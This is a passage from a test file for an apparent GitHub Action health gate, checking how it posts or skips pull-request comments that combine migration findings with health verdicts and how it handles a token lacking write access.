      '## 🗄️ Migrations: 2 pending, 1 finding\n\n| file | finding |\n| --- | --- |\n| 0002_x.sql | DROP COLUMN |';
    const res = await gate(
      { url: `${healthySvc.url}/health`, 'github-token': github.token, 'comment-header': header },
      {
        eventName: 'pull_request',
        event: { pull_request: { number: 23 } },
        env: { GITHUB_API_URL: github.url },
      },
    );
    assert.equal(res.exitCode, 0, res.log);
    const comments = github.comments.get(23) ?? [];
    assert.equal(comments.length, 1, 'one comment carries both verdicts');
    const body = comments[0]?.body ?? '';
    assert.ok(body.indexOf('Migrations: 2 pending') < body.indexOf('Health gate: healthy'), body);
    assert.match(body, /0002_x\.sql \| DROP COLUMN/);
  });

  test('no comment on push events or with comment: false', async () => {
    await up;
    const before = github.requests.length;
    const s = await service(() => ok());
    await gate(
      { url: `${s.url}/health`, 'github-token': github.token },
      { env: { GITHUB_API_URL: github.url } },
    );
    await gate(
      { url: `${s.url}/health`, 'github-token': github.token, comment: false },
      {
        eventName: 'pull_request',
        event: { pull_request: { number: 17 } },
        env: { GITHUB_API_URL: github.url },
      },
    );
    assert.equal(github.requests.length, before);
  });

  test('a comment the token may not write is a warning; the verdict stands', async () => {
    await up;
    const s = await service(() => ok());
    const r = await gate(
      { url: `${s.url}/health`, 'github-token': 'ghs_not_accepted_123456' },
      {
        eventName: 'pull_request',
        event: { pull_request: { number: 18 } },
        env: { GITHUB_API_URL: github.url },
      },
    );
    assert.equal(r.exitCode, 0, r.log);
    assert.equal(r.outputs.result, 'healthy');
    assert.match(
      r.warnings[0] ?? '',
      /Could not post the health report on pull request #18: GitHub API GET .* failed with 401/,
    );
  });
});
